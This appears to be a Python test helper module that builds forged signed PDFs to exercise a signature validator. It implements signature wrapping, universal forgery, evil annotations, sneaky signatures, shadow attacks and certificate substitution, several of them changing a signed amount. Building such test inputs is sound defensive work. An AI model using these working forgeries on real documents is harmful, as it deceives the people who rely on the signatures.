"""What an attacker does to a signed PDF, one function for each known way; nothing here breaks a signature value.

The names are those of the papers at pdf-insecurity.org: universal signature forgery, incremental saving,
signature wrapping, shadow attacks, evil annotations, sneaky signatures.
"""

import asyncio
import hashlib
import re
from collections.abc import Mapping

from asn1crypto.cms import SignedData, SignerIdentifier, SignerInfo
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.assets import pdfs
from tests.assets.pki import Holder

Objects = Mapping[int, bytes]
"""Bodies of indirect objects by their numbers, generation 0."""


def revise(pdf: bytes, objects: Objects, *, at: Mapping[int, int] | None = None, end: bool = True) -> bytes:
    """Return `pdf` with an incremental update written by hand: new `objects`, and entries that point `at` offsets.

    Without an `end`, the update lacks its cross-reference section and trailer.
    """
    body, offsets = b"", dict(at or {})
    for number, content in objects.items():
        offsets[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    if not end:
        return pdf + body
    table = b"".join(b"%d 1\n%010d 00000 n \n" % entry for entry in sorted(offsets.items()))
    return pdf + body + b"xref\n" + table + _trailer(pdf, len(pdf + body), max(offsets, default=0) + 1)


def free(pdf: bytes, number: int, generation: int = 1) -> bytes:
    """Return `pdf` with an update that declares an object free, so that what used it shows nothing."""
    return pdf + b"xref\n%d 1\n0000000000 %05d f \n" % (number, generation) + _trailer(pdf, len(pdf), 0)


def page(lines: tuple[str, ...]) -> bytes:
    """Return the content stream of a page that shows `lines`."""
    return pdfs.stream(pdfs.text_operators(lines))


def overcharged() -> tuple[str, ...]:
    """Return the lines of the act with another amount."""
    return tuple(line.replace("48 250,00", "98 250,00") for line in pdfs.ACT)


def offsets_of(pdf: bytes) -> dict[int, int]:
    """Return where the last object of each number starts."""
    return {int(found[1]): found.start(1) for found in re.finditer(rb"\n(\d+) 0 obj\b", pdf)}


def bodies_of(pdf: bytes) -> dict[int, bytes]:
    """Return what the last object of each number holds."""
    return {number: _body(pdf, number) for number in offsets_of(pdf)}


def size_of(pdf: bytes) -> int:
    """Return one more than the highest object number, as the last trailer has it."""
    return int(re.findall(rb"/Size (\d+)", pdf)[-1])


def wrap(pdf: bytes) -> bytes:
    """Signature wrapping: move what follows the signature value to the end, behind a page of the attacker's.

    The new ByteRange stands in a second signature dictionary, in the gap that nothing protects; the signed
    end of the file still points to where its cross-reference section was, and the attacker's stands there.
    """
    found = re.search(rb"<[0-9a-fA-F]{1000,}>", pdf)
    assert found is not None
    value_start, value_end = found.span()
    tail = pdf[value_end:]
    section = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    places = offsets_of(pdf)
    signature = next(number for number in places if b"/ByteRange" in _body(pdf, number))
    gap = b""
    for _ in range(3):  # the numbers of the range take part in what they measure
        moved = re.sub(
            rb"/ByteRange ?\[[^\]]*\] *",
            b"/ByteRange [0 %d %d %d] " % (value_start, value_end + len(gap), len(tail)),
            _body(pdf, signature),
        )
        objects = {pdfs.CONTENTS: page(overcharged()), signature: moved}
        size = max(places) + 1
        end = b"trailer\n<< /Size %d /Root 1 0 R >>\n" % size
        table_bytes = len(b"xref\n0 1\n0000000000 65535 f \n" + end)
        table_bytes += sum(len(b"%d 1\n%010d 00000 n \n" % (number, 0)) for number in places)
        body, offsets = b"", dict(places)
        for number, content in objects.items():
            offsets[number] = section + table_bytes + len(body)
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        table = b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
            b"%d 1\n%010d 00000 n \n" % entry for entry in sorted(offsets.items())
        )
        gap = b"\n" * (section - value_end) + table + end + body
    return pdf[:value_end] + gap + tail


def displace(pdf: bytes, before: bytes) -> bytes:
    """Return `pdf`, of one revision, behind other bytes that its offsets count."""
    table, section = pdf.rindex(b"xref\n0 "), int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    shift = len(before)
    moved = re.sub(
        rb"(\d{10}) 00000 n", lambda entry: b"%010d 00000 n" % (int(entry[1]) + shift), pdf[table:]
    )
    return (
        before + pdf[:table] + moved.replace(b"startxref\n%d" % section, b"startxref\n%d" % (section + shift))
    )


def sign_displaced(pdf: bytes, before: bytes, holder: Holder) -> bytes:
    """Return `pdf`, made by `displace`, with a signature that covers what is before the header, too."""
    header = b"%PDF-1.7\n"
    plain = header + pdf[len(header) :]
    signed = before[: len(header)] + pdfs.sign(plain, holder)[len(header) :]
    (numbers,) = re.findall(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", signed)
    end, start, length = map(int, numbers)
    digest = hashlib.sha256(signed[:end] + signed[start : start + length]).digest()
    cms = asyncio.run(holder.signer.async_sign(digest, digest_algorithm="sha256", use_pades=True))
    return pdfs.change_signature_value(signed, cms.dump())


def await_object(pdf: bytes, number: int) -> bytes:
    """Return `pdf` with a page that shows one more object, which is not there yet."""
    return pdfs.update(pdf, lambda writer: _await(writer, number))


def _await(writer: IncrementalPdfFileWriter, number: int) -> None:
    first = writer.root["/Pages"]["/Kids"][0]
    waited_for = generic.IndirectObject(number, 0, writer)
    first["/Contents"] = generic.ArrayObject([first.raw_get("/Contents"), waited_for])
    writer.update_container(first)


def substitute_certificate(pdf: bytes, holder: Holder) -> bytes:
    """Return `pdf` with another certificate for the same key in its one signature, as if `holder` had signed."""

    def change(signed_data: SignedData) -> None:
        other = holder.asn1_certificate
        signed_data["certificates"] = [other]
        signed_data["signer_infos"][0]["sid"] = SignerIdentifier(
            "issuer_and_serial_number", {"issuer": other.issuer, "serial_number": other.serial_number}
        )

    return pdfs.rewrite_signature(pdf, change)


def double_signer(pdf: bytes, *, broken: bool = False) -> bytes:
    """Return `pdf` with the signer of its one signature twice in it, the second one `broken` or not."""

    def change(signed_data: SignedData) -> None:
        first = signed_data["signer_infos"][0]
        second = SignerInfo.load(first.dump())
        value = second["signature"].native
        second["signature"] = value[:-1] + bytes([value[-1] ^ broken])
        second["version"] = "v3" if broken else first["version"].native
        signed_data["signer_infos"] = [first, second]

    return pdfs.rewrite_signature(pdf, change)


def drop_from_signature(pdf: bytes, key: str) -> bytes:
    """Universal forgery: an update removes an entry from the signature dictionary."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        dictionary = _signature_of(writer)
        del dictionary[key]
        writer.update_container(dictionary)

    return pdfs.update(pdf, change)


def put_into_signature(pdf: bytes, key: str, value: generic.PdfObject) -> bytes:
    """Universal forgery: an update gives an entry of the signature dictionary another value."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        dictionary = _signature_of(writer)
        dictionary[key] = value
        writer.update_container(dictionary)

    return pdfs.update(pdf, change)


def annotate(pdf: bytes, box: tuple[int, int, int, int] = (50, 700, 550, 800)) -> bytes:
    """Evil annotation: an update writes another amount over the page, in a free text annotation."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        first = writer.root["/Pages"]["/Kids"][0]
        note = generic.DictionaryObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
                generic.pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, box)),
                generic.pdf_name("/Contents"): generic.TextStringObject("98 250,00 euros HT"),
                generic.pdf_name("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
            }
        )
        annotations = first.get("/Annots", generic.ArrayObject())
        annotations.append(writer.add_object(note))
        first["/Annots"] = annotations
        writer.update_container(first)

    return pdfs.update(pdf, change)


def add_page(pdf: bytes) -> bytes:
    """Return `pdf` with one more page, added by an update."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        twin = generic.DictionaryObject(dict(pages["/Kids"][0].items()))
        twin.pop("/Annots", None)
        pages["/Kids"].append(writer.add_object(twin))
        pages["/Count"] = generic.NumberObject(len(pages["/Kids"]))
        writer.update_container(pages)

    return pdfs.update(pdf, change)


def add_unsigned_field(pdf: bytes, box: tuple[int, int, int, int] = (50, 700, 550, 800)) -> bytes:
    """Sneaky signature: an update adds a signature field that nobody signs, drawn over the page's text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = generic.DictionaryObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/Widget"),
                generic.pdf_name("/FT"): generic.pdf_name("/Sig"),
                generic.pdf_name("/T"): generic.TextStringObject("Cachet"),
                generic.pdf_name("/F"): generic.NumberObject(4),
                generic.pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, box)),
                generic.pdf_name("/AP"): generic.DictionaryObject(
                    {generic.pdf_name("/N"): writer.add_object(_white_box())}
                ),
            }
        )
        reference = writer.add_object(field)
        fields = writer.root["/AcroForm"]["/Fields"]
        fields.append(reference)
        writer.update_container(fields)
        first = writer.root["/Pages"]["/Kids"][0]
        first["/Annots"] = generic.ArrayObject([*first.get("/Annots", ()), reference])
        writer.update_container(first)

    return pdfs.update(pdf, change)


def draw_fields_anew(pdf: bytes) -> bytes:
    """Shadow attack: have readers draw form fields from their values, whatever their signed pictures show."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        form["/NeedAppearances"] = generic.BooleanObject(value=True)
        writer.update_container(form)

    return pdfs.update(pdf, change)


def redraw_signature(pdf: bytes) -> bytes:
    """Return `pdf` with the appearance of its visible signature overwritten by an update."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        field["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): writer.add_object(_white_box())})
        writer.update_container(field)

    return pdfs.update(pdf, change)


def _white_box() -> generic.StreamObject:
    box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 100)))
    return generic.StreamObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
            generic.pdf_name("/BBox"): box,
        },
        stream_data=b"1 g 0 0 500 100 re f",
    )


def _signature_of(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    dictionary = writer.root["/AcroForm"]["/Fields"][0]["/V"]
    assert isinstance(dictionary, generic.DictionaryObject)
    return dictionary


def _body(pdf: bytes, number: int) -> bytes:
    start = offsets_of(pdf)[number]
    return pdf[pdf.index(b"obj", start) + 3 : pdf.index(b"endobj", start)].strip()


def _trailer(pdf: bytes, section: int, size: int) -> bytes:
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    (root,) = re.findall(rb"/Root (\d+)", pdf)[-1:]
    return b"trailer\n<< /Size %d /Root %s 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, size_of(pdf)),
        root,
        previous,
        section,
    )
